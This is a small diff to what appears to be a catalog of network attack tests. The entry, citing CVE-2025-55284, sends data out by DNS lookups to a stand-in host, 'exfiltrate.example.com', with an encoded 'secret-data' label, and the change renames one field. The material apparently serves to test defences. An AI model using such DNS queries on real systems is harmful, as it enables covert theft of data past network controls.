@@ -49,7 +49,7 @@ ATTACK(NETWORK, "attempts",
        .gain = "data out, by the questions that even a closed network forwards",
        .source = "CVE-2025-55284", .event = "dns.blocked",
        .with = "name=c2vjcmv0lwrhdge.exfiltrate.example.com", .works = SOME_KERNELS,
-       .without = "a name server", .flags = QUIET)
+       .needs = "a name server", .flags = QUIET)
 {
 	return *name_server() ? ask(name_server(), "c2vjcmv0lwrhdge.exfiltrate.example.com")
 			      : NOT_HERE;
